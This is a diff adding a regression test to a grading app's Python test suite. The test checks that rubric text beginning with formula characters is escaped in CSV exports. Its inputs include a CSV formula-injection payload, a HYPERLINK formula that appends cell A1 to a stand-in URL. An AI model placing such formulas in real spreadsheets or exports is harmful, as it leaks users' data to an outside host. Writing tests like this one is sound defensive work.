@@ -6,6 +6,7 @@ test_mark_browser.py drives the real thing in Chromium."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 import sqlite3
 from pathlib import Path
@@ -435,3 +436,17 @@ def test_a_merge_whose_file_cannot_be_renamed_keeps_the_ledger_and_names_the_sta
     assert {who: v for (who, _col), v in got.items()} == {str(10100 + k): f"{4 + k % 3:g}" for k in range(6)}
     regrade(out, [row(k, f) for k, f in enumerate(FILES)])
     assert {r["q4"] for r in csv.DictReader((out / "grades.csv").open())} == {"1.0"}
+
+
+def test_rubric_stats_csv_runs_no_formula_a_rubric_item_holds(tmp_path):
+    """Red team 2 F03 (its rubric_stats.csv part): an item's text went into the CSV raw."""
+    out = graded(tmp_path)
+    c = client(out)
+    for text in ('=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1 plot", "'quoted"):
+        assert post(c, "/api/q/q4/items", {"points": "0", "text": text}).status_code == 200
+    assert "lines" in post(c, "/api/export", {}).get_json()
+    for body in (c.get("/rubric.csv").get_data(as_text=True),
+                 (out / "rubric_stats.csv").read_text(encoding="utf-8")):
+        texts = [r[3] for r in list(csv.reader(io.StringIO(body)))[1:]]
+        assert texts == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1)", "'+1 plot", "''quoted"]
+        assert [csvcells.cell_text(t) for t in texts][0] == '=HYPERLINK("http://x/?"&A1)'
